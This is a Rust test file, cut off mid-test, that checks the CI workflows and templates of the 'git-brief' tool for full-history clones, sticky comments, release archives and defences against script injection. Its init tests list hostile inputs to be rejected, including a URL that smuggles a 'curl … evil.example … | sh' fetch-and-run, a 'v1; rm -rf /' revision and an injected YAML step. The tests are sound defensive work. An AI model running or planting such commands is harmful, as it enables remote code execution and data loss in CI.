//! The CI files git-brief ships: this repository's own workflows and action,
//! and the files `git-brief init` writes into a user's repository. Each is
//! parsed, and each must contain what makes the weekly job trustworthy: the
//! whole history, the right flags, one sticky pull-request comment, no
//! script injection, and release archives that cargo-binstall finds.

mod common;

use std::path::Path;

use git_brief::cli::init::Install;
use git_brief::config::{
    AlertSection, BriefSection, ClassifySection, Config, EmailSection, IssuesSection, KpiEntry,
    PrometheusSection, TemplatesSection, TrackerSection,
};
use yaml_rust2::{Yaml, YamlLoader};

const ACTION: &str = ".github/actions/git-brief/action.yml";
const BRIEF: &str = ".github/workflows/brief.yml";
const PR_BRIEF: &str = ".github/workflows/pr-brief.yml";
const RELEASE: &str = ".github/workflows/release.yml";
const CI: &str = ".github/workflows/ci.yml";
const INIT_BRIEF: &str = "templates/init/brief.yml";
const INIT_PR_BRIEF: &str = "templates/init/pr-brief.yml";
const GITLAB: &str = "templates/init/gitlab-ci.yml";
const INIT_CONFIG: &str = "templates/init/git-brief.toml";

const WORKFLOWS: [&str; 6] = [BRIEF, PR_BRIEF, RELEASE, CI, INIT_BRIEF, INIT_PR_BRIEF];
const WEEKLY: [&str; 2] = [BRIEF, INIT_BRIEF];
const PULL_REQUEST: [&str; 2] = [PR_BRIEF, INIT_PR_BRIEF];
const OWN: [&str; 2] = [BRIEF, PR_BRIEF];
const INIT: [&str; 4] =
    [INIT_BRIEF, INIT_PR_BRIEF, "templates/init/alert.yml", "templates/init/org-brief.yml"];

/// How `uses:` names the action in this repository.
const LOCAL_ACTION: &str = "./.github/actions/git-brief";
/// The first line of a brief written with `--comment`.
const MARKER: &str = "<!-- git-brief -->";

// ---------------------------------------------------------------- helpers

/// A file of the project; a workflow `init` writes, as it writes it.
fn read(path: &str) -> String {
    if let Some(name) = path.strip_prefix("templates/init/") {
        if let Some(text) = git_brief::cli::init::rendered(name, &Install::CratesIo) {
            return text;
        }
    }
    let full = Path::new(env!("CARGO_MANIFEST_DIR")).join(path);
    std::fs::read_to_string(&full).unwrap_or_else(|e| panic!("{path}: cannot read it ({e})"))
}

/// The file's one YAML document, which must be a mapping.
fn load(path: &str) -> Yaml {
    let mut docs =
        YamlLoader::load_from_str(&read(path)).unwrap_or_else(|e| panic!("{path} is not valid YAML: {e}"));
    assert_eq!(docs.len(), 1, "{path}: one YAML document expected, found {}", docs.len());
    let doc = docs.remove(0);
    assert!(doc.as_hash().is_some(), "{path}: the document must be a mapping, found {doc:?}");
    doc
}

/// A scalar as the text GitHub or GitLab would see (`true`, `0`, `brief.md`).
fn text(value: &Yaml) -> Option<String> {
    match value {
        Yaml::String(s) | Yaml::Real(s) => Some(s.clone()),
        Yaml::Integer(n) => Some(n.to_string()),
        Yaml::Boolean(b) => Some(b.to_string()),
        _ => None,
    }
}

fn str_of<'a>(value: &'a Yaml, key: &str) -> &'a str {
    value[key].as_str().unwrap_or("")
}

fn keys(value: &Yaml) -> Vec<String> {
    value.as_hash().map(|h| h.keys().filter_map(text).collect()).unwrap_or_default()
}

fn list(value: &Yaml) -> &[Yaml] {
    value.as_vec().map(Vec::as_slice).unwrap_or(&[])
}

/// The workflow's jobs, by name.
fn jobs(path: &str, doc: &Yaml) -> Vec<(String, Yaml)> {
    let jobs = doc["jobs"].as_hash().unwrap_or_else(|| panic!("{path}: no `jobs:` mapping"));
    jobs.iter().map(|(name, job)| (text(name).unwrap_or_default(), job.clone())).collect()
}

fn steps(job: &Yaml) -> &[Yaml] {
    list(&job["steps"])
}

fn uses(step: &Yaml) -> &str {
    str_of(step, "uses")
}

/// Whether the step uses `action` (`actions/cache`), at whatever commit it is pinned to.
fn uses_action(step: &Yaml, action: &str) -> bool {
    uses(step).split_once('@').is_some_and(|(name, _)| name == action)
}

fn run(step: &Yaml) -> &str {
    str_of(step, "run")
}

/// The workflow's triggers, whichever way `on:` is written.
fn triggers(doc: &Yaml) -> Vec<String> {
    let on = &doc["on"];
    match on {
        Yaml::String(one) => vec![one.clone()],
        Yaml::Array(many) => many.iter().filter_map(text).collect(),
        _ => keys(on),
    }
}

/// The `${{ … }}` expressions in a text, trimmed.
fn expressions(script: &str) -> Vec<String> {
    script
        .split("${{")
        .skip(1)
        .map(|rest| rest.split("}}").next().unwrap_or(rest).trim().to_string())
        .collect()
}

/// The action's inputs with their defaults.
fn action_defaults() -> Vec<(String, String)> {
    let action = load(ACTION);
    let inputs = action["inputs"].as_hash().expect("the action has inputs");
    inputs
        .iter()
        .map(|(name, input)| (text(name).unwrap(), text(&input["default"]).unwrap_or_default()))
        .collect()
}

/// The git-brief command line a step runs: the `git-brief …` line of a
/// `run:` script, or what the local action runs for its inputs (mirroring
/// its script). `None` for steps that do not run a brief.
fn brief_command(step: &Yaml) -> Option<String> {
    if uses(step) == LOCAL_ACTION {
        let input = |name: &str| {
            text(&step["with"][name]).unwrap_or_else(|| {
                action_defaults().into_iter().find(|(n, _)| n == name).map(|(_, d)| d).unwrap_or_default()
            })
        };
        let mut command =
            format!("git-brief {} --format {} --output {}", input("args"), input("format"), input("output"));
        if !input("config").is_empty() {
            command += &format!(" --config {}", input("config"));
        }
        if input("step-summary") == "true" {
            command += " --step-summary";
        }
        if input("comment") == "true" {
            command += " --comment";
        }
        return Some(command);
    }
    let script = run(step).replace("\\\n", " ");
    script.lines().map(str::trim).find(|line| line.starts_with("git-brief ")).map(str::to_string)
}

/// The words of a command line, without shell quotes; `${{ x }}` stays one word, `${{x}}`.
fn words(command: &str) -> Vec<String> {
    let compact = command.replace("${{ ", "${{").replace(" }}", "}}");
    compact.split_whitespace().map(|w| w.trim_matches(|c| c == '"' || c == '\'').to_string()).collect()
}

/// Whether `command` has `flag` (followed by `value`, when given).
fn has(command: &str, flag: &str, value: Option<&str>) -> bool {
    let words = words(command);
    words
        .iter()
        .enumerate()
        .any(|(i, w)| w == flag && value.is_none_or(|v| words.get(i + 1).is_some_and(|n| n == v)))
}

/// Whether `path` names the file `name` in the runner's temporary directory,
/// out of the checkout whose links a pull request chooses.
fn in_runner_temp(path: &str, name: &str) -> bool {
    let path = path.replace("${{ ", "${{").replace(" }}", "}}");
    path == format!("$RUNNER_TEMP/{name}") || path == format!("${{{{runner.temp}}}}/{name}")
}

/// The value after `flag`.
fn value_of(command: &str, flag: &str) -> Option<String> {
    let words = words(command);
    words.iter().position(|w| w == flag).and_then(|i| words.get(i + 1).cloned())
}

/// The only job of a workflow that runs a brief, and the index of the step
/// that writes it. A later step may run git-brief again for another
/// destination (the issue update), but only in the same job.
fn brief_job(path: &str) -> (Yaml, usize) {
    let doc = load(path);
    let found: Vec<(Yaml, usize)> = jobs(path, &doc)
        .into_iter()
        .filter_map(|(_, job)| {
            let first = steps(&job).iter().position(|s| brief_command(s).is_some());
            first.map(|i| (job.clone(), i))
        })
        .collect();
    assert_eq!(found.len(), 1, "{path}: exactly one job should run git-brief, found {}", found.len());
    found.into_iter().next().unwrap()
}

/// The step of `job` that `matches`, with its index.
fn find_step(job: &Yaml, matches: impl Fn(&Yaml) -> bool) -> Option<(usize, &Yaml)> {
    steps(job).iter().enumerate().find(|(_, step)| matches(step))
}

/// A permission a job gets: a job's `permissions:` replaces the workflow's.
fn permission(doc: &Yaml, job: &Yaml, scope: &str) -> String {
    let block = if job["permissions"].is_badvalue() { &doc["permissions"] } else { &job["permissions"] };
    text(&block[scope]).unwrap_or_default()
}

/// A `*` wildcard match, as in upload globs.
fn glob_matches(pattern: &str, name: &str) -> bool {
    match pattern.split_once('*') {
        None => pattern == name,
        Some((head, tail)) => {
            name.starts_with(head)
                && (0..=name.len() - head.len()).any(|i| {
                    name.is_char_boundary(head.len() + i) && glob_matches(tail, &name[head.len() + i..])
                })
        }
    }
}

/// The asset cargo-binstall looks for, from `{ name }-{ target }{ archive-suffix }`:
/// `pkg-fmt = "tgz"` accepts `.tgz` or `.tar.gz`; Windows uses `zip`.
fn binstall_asset(target: &str) -> String {
    let suffix = if target.contains("windows") { ".zip" } else { ".tar.gz" };
    format!("git-brief-{target}{suffix}")
}

const RELEASE_TARGETS: [&str; 4] =
    ["x86_64-unknown-linux-gnu", "aarch64-apple-darwin", "x86_64-apple-darwin", "x86_64-pc-windows-msvc"];

// ---------------------------------------------------------------- every file

#[test]
fn every_ci_file_is_valid_yaml() {
    for path in WORKFLOWS.iter().chain(&[ACTION, GITLAB]) {
        load(path);
    }
}

#[test]
fn no_workflow_runs_on_pull_request_target() {
    for path in WORKFLOWS {
        let on = triggers(&load(path));
        assert!(!on.is_empty(), "{path}: no `on:` triggers found");
        assert!(
            !on.iter().any(|t| t == "pull_request_target"),
            "{path}: pull_request_target runs with a write token on code from forks; use pull_request"
        );
    }
}

#[test]
fn every_brief_runs_on_a_full_clone() {
    for path in WORKFLOWS {
        let doc = load(path);
        for (name, job) in jobs(path, &doc) {
            for (i, step) in steps(&job).iter().enumerate() {
                if brief_command(step).is_none() {
                    continue;
                }
                let full_clone = steps(&job)[..i].iter().any(|s| {
                    uses(s).starts_with("actions/checkout@")
                        && text(&s["with"]["fetch-depth"]).as_deref() == Some("0")
                });
                assert!(
                    full_clone,
                    "{path}: job `{name}` runs git-brief in step {} without an earlier actions/checkout \
                     with `fetch-depth: 0`; a shallow clone cannot show the window",
                    i + 1
                );
            }
        }
    }
    for path in WEEKLY.iter().chain(&PULL_REQUEST) {
        brief_job(path);
    }
}

#[test]
fn scripts_never_interpolate_untrusted_text() {
    const UNTRUSTED: [&str; 4] = ["github.event.", "github.head_ref", "github.base_ref", "inputs."];
    for path in WORKFLOWS {
        let doc = load(path);
        for (name, job) in jobs(path, &doc) {
            for step in steps(&job) {
                for expression in expressions(run(step)) {
                    assert!(
                        !UNTRUSTED.iter().any(|u| expression.contains(u)),
                        "{path}: job `{name}` pastes `${{{{ {expression} }}}}` into a run: script, where a \
                         crafted branch name or title becomes shell code; pass it through env: instead"
                    );
                }
            }
        }
    }
}

#[test]
fn no_file_uses_a_published_copy_of_this_project() {
    for path in WORKFLOWS.iter().chain(&[ACTION]) {
        for line in read(path).lines() {
            let line = line.trim().trim_start_matches("- ");
            if let Some(target) = line.strip_prefix("uses:") {
                // The value, without a YAML comment after it (`# v5.1.0`, `# zizmor: …`).
                let target = target.split(" #").next().unwrap_or("").trim();
                assert!(
                    !target.contains("git-brief") || target == LOCAL_ACTION,
                    "{path}: `uses: {target}` names this project by owner/repo, which is not known yet; \
                     use {LOCAL_ACTION} here, or taiki-e/install-action in users' repositories"
                );
            }
        }
    }
}

// ---------------------------------------------------------------- the action

#[test]
fn the_action_takes_documented_inputs_with_defaults() {
    let action = load(ACTION);
    let expected = [
        ("args", "--week last"),
        ("format", "markdown"),
        ("output", "brief.md"),
        ("config", ""),
        ("step-summary", "true"),
        ("comment", "false"),
    ];
    let defaults = action_defaults();
    assert_eq!(
        defaults.iter().map(|(n, _)| n.as_str()).collect::<Vec<_>>(),
        expected.iter().map(|(n, _)| *n).collect::<Vec<_>>(),
        "{ACTION}: the inputs"
    );
    for ((name, default), (_, want)) in defaults.iter().zip(expected) {
        assert_eq!(default, want, "{ACTION}: the default of input `{name}`");
        let description = str_of(&action["inputs"][name.as_str()], "description");
        assert!(!description.is_empty(), "{ACTION}: input `{name}` needs a description");
    }
    let args = str_of(&action["inputs"]["args"], "description");
    assert!(
        args.contains("Split") || args.contains("split"),
        "{ACTION}: say that `args` is word-split: {args}"
    );
}

#[test]
fn the_action_installs_git_brief_from_its_own_source() {
    let action = load(ACTION);
    assert_eq!(str_of(&action["runs"], "using"), "composite", "{ACTION}: a composite action");
    let steps = list(&action["runs"]["steps"]);
    for step in steps {
        assert_eq!(str_of(step, "shell"), "bash", "{ACTION}: every step needs `shell: bash`: {step:?}");
    }
    let install = steps.first().map(run).unwrap_or("");
    for needle in ["cargo install --locked", "--path \"$GITHUB_ACTION_PATH/../../..\""] {
        assert!(
            install.contains(needle),
            "{ACTION}: the first step installs git-brief; `{needle}` missing:\n{install}"
        );
    }
    // Into ~/.cargo/bin, already on the runner's PATH: a write to $GITHUB_PATH or $GITHUB_ENV
    // is what zizmor's github-env audit warns of (later steps trust it).
    let code: String = install.lines().filter(|l| !l.trim_start().starts_with('#')).collect();
    assert!(!code.contains("GITHUB_PATH") && !code.contains("GITHUB_ENV"), "{ACTION}: {install}");
    let brief = steps.iter().position(|s| run(s).lines().any(|l| l.trim().starts_with("git-brief ")));
    assert_eq!(brief, Some(1), "{ACTION}: the second step runs git-brief");
}

#[test]
fn the_action_passes_every_input_through_env() {
    let action = load(ACTION);
    let steps = list(&action["runs"]["steps"]);
    for step in steps {
        for expression in expressions(run(step)) {
            assert!(
                !expression.starts_with("inputs."),
                "{ACTION}: `${{{{ {expression} }}}}` inside a run: script is script injection; use env:"
            );
        }
    }
    let env: Vec<String> =
        steps.iter().flat_map(|s| s["env"].as_hash()).flatten().filter_map(|(_, v)| text(v)).collect();
    for (name, _) in action_defaults() {
        let expected = format!("${{{{ inputs.{name} }}}}");
        assert!(
            env.contains(&expected),
            "{ACTION}: input `{name}` should reach the script as env: {expected}"
        );
    }
}

#[test]
fn the_action_outputs_the_path_of_the_brief() {
    let action = load(ACTION);
    let value = str_of(&action["outputs"]["path"], "value");
    let steps = list(&action["runs"]["steps"]);
    let writer = steps
        .iter()
        .find(|s| run(s).contains("$GITHUB_OUTPUT"))
        .unwrap_or_else(|| panic!("{ACTION}: no step writes the `path` output to $GITHUB_OUTPUT"));
    assert!(run(writer).contains("path="), "{ACTION}: the output is written as path=…");
    let id = str_of(writer, "id");
    assert!(!id.is_empty(), "{ACTION}: the step that sets `path` needs an id");
    assert_eq!(value, format!("${{{{ steps.{id}.outputs.path }}}}"), "{ACTION}: outputs.path.value");
}

// ---------------------------------------------------------------- where the brief runs

#[test]
fn this_repository_briefs_with_its_own_action() {
    for path in OWN {
        let (job, at) = brief_job(path);
        assert_eq!(uses(&steps(&job)[at]), LOCAL_ACTION, "{path}: run the brief with {LOCAL_ACTION}");
        assert!(
            find_step(&job, |s| uses(s).starts_with("taiki-e/install-action")).is_none(),
            "{path}: this repository builds git-brief from its own source, not from a release"
        );
    }
}

#[test]
fn init_workflows_install_git_brief_from_crates_io_once_per_version() {
    let version = env!("CARGO_PKG_VERSION");
    for path in INIT {
        let doc = load(path);
        for (name, job) in jobs(path, &doc) {
            let runs_it = |s: &Yaml| run(s).contains("git-brief ") && !run(s).starts_with("cargo install");
            let Some(at) = steps(&job).iter().position(runs_it) else { continue };
            let (cache, step) = find_step(&job, |s| uses_action(s, "actions/cache"))
                .unwrap_or_else(|| panic!("{path}: job {name} restores git-brief from the cache"));
            assert_eq!(str_of(&step["with"], "path"), "~/.cargo/bin/git-brief", "{path}: the cached binary");
            assert!(
                str_of(&step["with"], "key").starts_with(&format!("git-brief-{version}-")),
                "{path}: the cache is keyed on the version"
            );
            let id = str_of(step, "id").to_string();
            let (install, step) = find_step(&job, |s| run(s).starts_with("cargo install"))
                .unwrap_or_else(|| panic!("{path}: job {name} installs git-brief"));
            assert_eq!(run(step), format!("cargo install --locked git-brief --version {version}"), "{path}");
            assert_eq!(str_of(step, "if"), format!("steps.{id}.outputs.cache-hit != 'true'"), "{path}");
            assert!(cache < install && install < at, "{path}: restore, install, then run git-brief");
            assert!(
                find_step(&job, |s| uses(s) == LOCAL_ACTION).is_none(),
                "{path}: users' repositories do not have {LOCAL_ACTION}"
            );
        }
    }
    let source = git_brief::cli::init::rendered(
        "brief.yml",
        &Install::source("https://example.com/fork.git", None).unwrap(),
    )
    .unwrap();
    // The URL reaches the shell as a variable, never as script text.
    let doc = YamlLoader::load_from_str(&source).unwrap().remove(0);
    let job = &doc["jobs"]["brief"];
    let (_, install) = find_step(job, |s| str_of(s, "name") == "Install git-brief").expect("an install step");
    assert_eq!(str_of(&install["env"], "GIT_BRIEF_SOURCE"), "https://example.com/fork.git");
    assert_eq!(str_of(&install["env"], "GIT_BRIEF_REV"), "${{ steps.git-brief-source.outputs.rev }}");
    assert_eq!(
        run(install),
        "cargo install --locked --git \"$GIT_BRIEF_SOURCE\" --rev \"$GIT_BRIEF_REV\" git-brief"
    );
    // Item 26: the cache is keyed by the source's commit, so a new one is built once.
    let (_, restore) = find_step(job, |s| str_of(s, "name") == "Restore git-brief").expect("a restore step");
    assert!(str_of(&restore["with"], "key")
        .starts_with("git-brief-source-${{ steps.git-brief-source.outputs.rev }}-"));
    let (find, _) =
        find_step(job, |s| str_of(s, "id") == "git-brief-source").expect("a step finding the commit");
    let (at, _) = find_step(job, |s| str_of(s, "id") == "git-brief").unwrap();
    assert!(find < at, "the commit is found before the cache is restored");
    // --rev pins one: no lookup, the key and the build use it.
    let pinned = git_brief::cli::init::rendered(
        "brief.yml",
        &Install::source("https://example.com/fork.git", Some("v1.4.0")).unwrap(),
    )
    .unwrap();
    let doc = YamlLoader::load_from_str(&pinned).unwrap().remove(0);
    let job = &doc["jobs"]["brief"];
    assert!(find_step(job, |s| str_of(s, "id") == "git-brief-source").is_none());
    let (_, restore) = find_step(job, |s| str_of(s, "name") == "Restore git-brief").unwrap();
    assert!(str_of(&restore["with"], "key").starts_with("git-brief-source-v1.4.0-"));
    let (_, install) = find_step(job, |s| str_of(s, "name") == "Install git-brief").unwrap();
    assert_eq!(str_of(&install["env"], "GIT_BRIEF_REV"), "v1.4.0");
    for bad in ["", "-x", "v1; rm -rf /", "${{ github.token }}"] {
        assert!(Install::source("https://example.com/fork.git", Some(bad)).is_err(), "{bad:?}");
    }
}

// Item 15 of the third hardening round: `init --from-source` writes its URL
// into YAML and shell lines that CI runs with the job's token.
#[test]
fn init_takes_only_a_plain_https_url_from_source() {
    let repo = common::Repo::new();
    repo.commit("chore: start", "2026-11-09T09:00:00Z");
    for url in [
        "https://example.com/x.git; curl -s https://evil.example/p | sh #",
        "https://example.com/${{ secrets.GITHUB_TOKEN }}.git",
        "",
        "https://example.com/x.git\n      - name: injected step\n        run: echo injected",
        "http://example.com/x.git",
        "https://",
        "https://example.com/it's.git",
    ] {
        let out = repo.brief_command(&["init", "--from-source", url]).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{url:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stderr.lines().count(), 1, "{url:?}: {stderr}");
        assert!(stderr.contains("--from-source") && stderr.contains("https URL"), "{stderr}");
        assert!(!repo.path.join(".github").exists(), "{url:?}: nothing written");
    }
    let out = repo
        .brief_command(&["init", "--from-source", "https://example.com/team/git-brief.git"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let weekly = std::fs::read_to_string(repo.path.join(".github/workflows/brief.yml")).unwrap();
    assert!(weekly.contains("GIT_BRIEF_SOURCE: 'https://example.com/team/git-brief.git'"), "{weekly}");
}

// ---------------------------------------------------------------- weekly

#[test]
fn weekly_workflows_run_on_monday_mornings_and_by_hand() {
    for path in WEEKLY {
        let doc = load(path);
        let crons: Vec<&str> = list(&doc["on"]["schedule"]).iter().map(|s| str_of(s, "cron")).collect();
        assert_eq!(crons, ["0 7 * * 1"], "{path}: the schedule is Mondays at 07:00 UTC");
        assert!(triggers(&doc).contains(&"workflow_dispatch".to_string()), "{path}: add workflow_dispatch");
    }
}

#[test]
fn weekly_briefs_cover_last_week_and_fill_the_step_summary() {
    for path in WEEKLY {
        let (job, at) = brief_job(path);
        let command = brief_command(&steps(&job)[at]).unwrap();
        let output = value_of(&command, "--output").unwrap_or_default();
        assert!(in_runner_temp(&output, "brief.md"), "{path}: --output under $RUNNER_TEMP: {command}");
        for (flag, value) in
            [("--week", Some("last")), ("--format", Some("markdown")), ("--step-summary", None)]
        {
            let wanted = [Some(flag), value].into_iter().flatten().collect::<Vec<_>>().join(" ");
            assert!(has(&command, flag, value), "{path}: the brief needs `{wanted}`: {command}");
        }
        assert!(!has(&command, "--comment", None), "{path}: a weekly brief is not a comment: {command}");
    }
}

#[test]
fn weekly_workflows_keep_the_brief_as_an_artifact() {
    for path in WEEKLY {
        let (job, at) = brief_job(path);
        let (upload, step) = find_step(&job, |s| uses_action(s, "actions/upload-artifact"))
            .unwrap_or_else(|| panic!("{path}: upload brief.md with actions/upload-artifact"));
        assert!(in_runner_temp(str_of(&step["with"], "path"), "brief.md"), "{path}: the artifact's path");
        assert!(upload > at, "{path}: upload the brief after writing it");
    }
}

#[test]
fn weekly_workflows_update_the_issue_only_when_asked() {
    for path in WEEKLY {
        let doc = load(path);
        let (job, at) = brief_job(path);
        let (edit, step) = find_step(&job, |s| run(s).contains("gh issue edit"))
            .unwrap_or_else(|| panic!("{path}: no step updates the GIT_BRIEF_ISSUE issue"));
        assert!(edit > at, "{path}: update the issue after writing the brief");
        assert_eq!(str_of(step, "if"), "vars.GIT_BRIEF_ISSUE != ''", "{path}: only when the variable is set");
        assert_eq!(
            run(step).trim(),
            "git-brief --week last --format markdown --comment --output \"$RUNNER_TEMP/issue.md\"\n\
             gh issue edit \"$ISSUE\" --body-file \"$RUNNER_TEMP/issue.md\"",
            "{path}: the issue update, within the issue body's 65,536 characters"
        );
        assert_eq!(str_of(&step["env"], "GH_TOKEN"), "${{ github.token }}", "{path}: gh needs GH_TOKEN");
        assert_eq!(
            str_of(&step["env"], "ISSUE"),
            "${{ vars.GIT_BRIEF_ISSUE }}",
            "{path}: ISSUE from the variable"
        );
        assert_eq!(permission(&doc, &job, "contents"), "read", "{path}: permissions: contents");
        assert_eq!(permission(&doc, &job, "issues"), "write", "{path}: permissions: issues");
    }
}

// ---------------------------------------------------------------- pull requests

#[test]
fn pull_request_workflows_run_on_pull_request_events_only() {
    for path in PULL_REQUEST {
        let doc = load(path);
        assert_eq!(triggers(&doc), ["pull_request"], "{path}: triggered by pull_request alone");
        let types: Vec<String> = list(&doc["on"]["pull_request"]["types"]).iter().filter_map(text).collect();
        assert_eq!(types, ["opened", "synchronize", "reopened"], "{path}: pull_request types");
        let (job, _) = brief_job(path);
        for (scope, level) in [("contents", "read"), ("pull-requests", "write"), ("issues", "write")] {
            assert_eq!(permission(&doc, &job, scope), level, "{path}: permissions: {scope}");
        }
    }
}

#[test]
fn pull_request_briefs_cover_the_range_as_a_comment() {
    for path in PULL_REQUEST {
        let (job, at) = brief_job(path);
        let step = &steps(&job)[at];
        let command = brief_command(step).unwrap();
        let range = value_of(&command, "--range")
            .unwrap_or_else(|| panic!("{path}: the brief needs --range: {command}"));
        assert!(
            range.starts_with("origin/") && range.ends_with("...HEAD"),
            "{path}: --range origin/<base>...HEAD, not {range}"
        );
        assert!(has(&command, "--comment", None), "{path}: the brief needs --comment: {command}");
        assert!(
            in_runner_temp(&value_of(&command, "--output").unwrap_or_default(), "brief.md"),
            "{path}: the brief needs --output under $RUNNER_TEMP, out of the pull request's checkout: {command}"
        );
        // The base branch's name reaches the shell through env:, never pasted into a script.
        let base_from_env =
            str_of(&step["env"], "BASE_REF") == "${{ github.base_ref }}" && range.contains("$BASE_REF");
        let base_through_action = uses(step) == LOCAL_ACTION && range.contains("${{github.base_ref}}");
        assert!(
            base_from_env || base_through_action,
            "{path}: the base ref comes from github.base_ref via env: {range}"
        );
    }
}

#[test]
fn pull_request_comments_are_updated_not_repeated() {
    for path in PULL_REQUEST {
        let (job, at) = brief_job(path);
        let (post, step) = find_step(&job, |s| run(s).contains(MARKER))
            .unwrap_or_else(|| panic!("{path}: no step looks for the comment marker {MARKER}"));
        assert!(post > at, "{path}: post the comment after writing the brief");
        let script = run(step);
        for needle in [
            "gh api \"repos/$REPO/issues/$PR/comments\" --paginate",
            "--jq",
            "gh api -X PATCH \"repos/$REPO/issues/comments/$ID\" -F body=@\"$RUNNER_TEMP/brief.md\"",
            "gh pr comment \"$PR\" --body-file \"$RUNNER_TEMP/brief.md\"",
        ] {
            assert!(script.contains(needle), "{path}: the comment step needs `{needle}`:\n{script}");
        }
        assert_eq!(str_of(&step["env"], "GH_TOKEN"), "${{ github.token }}", "{path}: gh needs GH_TOKEN");
        assert_eq!(
            str_of(&step["env"], "PR"),
            "${{ github.event.pull_request.number }}",
            "{path}: PR via env"
        );
        assert_eq!(str_of(&step["env"], "REPO"), "${{ github.repository }}", "{path}: REPO via env");
    }
}

#[test]
fn pull_request_briefs_run_one_at_a_time_per_pull_request() {
    for path in PULL_REQUEST {
        let doc = load(path);
        let group = str_of(&doc["concurrency"], "group");
        assert!(
            group.contains("github.event.pull_request.number"),
            "{path}: a concurrency group per pull request, so two pushes never post two comments: {group:?}"
        );
    }
}

// ---------------------------------------------------------------- init's explanations

#[test]
fn the_init_weekly_workflow_explains_what_a_team_lead_must_know() {
    let comments: String = read(INIT_BRIEF)
        .lines()
        .filter_map(|l| l.split_once('#').map(|(_, comment)| comment.to_string()))
        .collect::<Vec<_>>()
        .join("\n");
    for topic in ["timezone", ".git-brief.toml", "fetch-depth: 0", "GIT_BRIEF_ISSUE"] {
        assert!(comments.contains(topic), "{INIT_BRIEF}: the comments should explain `{topic}`");
    }
}

// ---------------------------------------------------------------- GitLab

#[test]
fn the_gitlab_job_briefs_last_week_on_schedules_with_full_history() {
    let doc = load(GITLAB);
    let jobs: Vec<(String, &Yaml)> = doc
        .as_hash()
        .unwrap()
        .iter()
        .filter(|(_, job)| !job["script"].is_badvalue())
        .map(|(name, job)| (text(name).unwrap_or_default(), job))
        .collect();
    let names: Vec<&str> = jobs.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(
        names,
        ["git-brief", "git-brief-merge-request"],
        "{GITLAB}: the weekly job and the merge request's"
    );
    let (name, job) = &jobs[0];
    assert_eq!(str_of(job, "image"), "rust:latest", "{GITLAB}: job `{name}`'s image");
    let depth =
        if job["variables"]["GIT_DEPTH"].is_badvalue() { &doc["variables"] } else { &job["variables"] };
    assert_eq!(
        depth["GIT_DEPTH"],
        Yaml::String("0".into()),
        "{GITLAB}: `GIT_DEPTH: \"0\"` (quoted) fetches all history"
    );
    let rules: Vec<&str> = list(&job["rules"]).iter().map(|r| str_of(r, "if")).collect();
    assert_eq!(rules, ["$CI_PIPELINE_SOURCE == \"schedule\""], "{GITLAB}: run for schedules only");
    let script: Vec<&str> = list(&job["script"]).iter().filter_map(Yaml::as_str).collect();
    assert_eq!(
        script,
        [
            "export CARGO_HOME=\"$CI_PROJECT_DIR/.cargo\" PATH=\"$CI_PROJECT_DIR/.cargo/bin:$PATH\"",
            &format!(
                "command -v git-brief || cargo install --locked git-brief --version {}",
                env!("CARGO_PKG_VERSION")
            ),
            "git-brief --week last --format markdown --output brief.md"
        ],
        "{GITLAB}: the script"
    );
    let paths: Vec<&str> = list(&job["artifacts"]["paths"]).iter().filter_map(Yaml::as_str).collect();
    assert_eq!(paths, ["brief.md"], "{GITLAB}: keep brief.md as an artifact");
    assert!(read(GITLAB).contains("CI/CD → Schedules"), "{GITLAB}: say where to create the schedule");
}

// ---------------------------------------------------------------- release

#[test]
fn release_runs_on_version_tags() {
    let doc = load(RELEASE);
    let tags: Vec<String> = list(&doc["on"]["push"]["tags"]).iter().filter_map(text).collect();
    assert_eq!(tags, ["v*"], "{RELEASE}: on push of tags v* (binstall downloads v{{ version }})");
    assert_eq!(triggers(&doc), ["push"], "{RELEASE}: only tag pushes release");
}

#[test]
fn release_builds_every_binstall_target_into_its_archive() {
    let doc = load(RELEASE);
    let builds: Vec<(String, Yaml)> =
        jobs(RELEASE, &doc).into_iter().filter(|(_, job)| !job["strategy"]["matrix"].is_badvalue()).collect();
    assert_eq!(builds.len(), 1, "{RELEASE}: one build matrix");
    let (_, job) = &builds[0];
    let include = list(&job["strategy"]["matrix"]["include"]);
    let targets: Vec<&str> = include.iter().map(|e| str_of(e, "target")).collect();
    assert_eq!(targets, RELEASE_TARGETS, "{RELEASE}: the matrix targets");
    for entry in include {
        let (target, os, asset) = (str_of(entry, "target"), str_of(entry, "os"), str_of(entry, "asset"));
        let family = match target {
            t if t.contains("linux") => "ubuntu-",
            t if t.contains("apple") => "macos-",
            _ => "windows-",
        };
        assert!(os.starts_with(family), "{RELEASE}: {target} builds on a {family}* runner, not {os}");
        assert_ne!(os, "macos-13", "{RELEASE}: the macos-13 runner was retired on 4 December 2025");
        assert_eq!(
            asset,
            binstall_asset(target),
            "{RELEASE}: {target}'s archive is what cargo-binstall looks for"
        );
    }
    assert_eq!(str_of(job, "runs-on"), "${{ matrix.os }}", "{RELEASE}: each target on its own runner");
    let (_, toolchain) = find_step(job, |s| uses_action(s, "dtolnay/rust-toolchain"))
        .unwrap_or_else(|| panic!("{RELEASE}: install Rust with dtolnay/rust-toolchain"));
    assert_eq!(
        str_of(&toolchain["with"], "targets"),
        "${{ matrix.target }}",
        "{RELEASE}: the toolchain's target"
    );
    let (_, build) = find_step(job, |s| run(s).contains("cargo build"))
        .unwrap_or_else(|| panic!("{RELEASE}: no cargo build step"));
    assert_eq!(
        run(build).trim(),
        "cargo build --release --locked --target \"$TARGET\"",
        "{RELEASE}: the build"
    );
    assert_eq!(str_of(&build["env"], "TARGET"), "${{ matrix.target }}", "{RELEASE}: TARGET of the build");
    let (_, package) = find_step(job, |s| run(s).contains("$ASSET"))
        .unwrap_or_else(|| panic!("{RELEASE}: no step packages the archive named by matrix.asset"));
    let script = run(package);
    assert_eq!(
        str_of(&package["env"], "ASSET"),
        "${{ matrix.asset }}",
        "{RELEASE}: ASSET of the package step"
    );
    // The binary alone at the archive's root: binstall's bin-dir is `{ bin }{ binary-ext }`.
    for needle in [
        "cd \"target/$TARGET/release\"",
        "tar -czf \"../../../dist/$ASSET\" git-brief ",
        "\"../../../dist/$ASSET\" git-brief.exe ",
    ] {
        assert!(script.contains(needle), "{RELEASE}: the package step needs `{needle}`:\n{script}");
    }
}

#[test]
fn release_attaches_every_archive_to_the_tag_release() {
    let doc = load(RELEASE);
    let uploads = |s: &Yaml| run(s).contains("gh release upload");
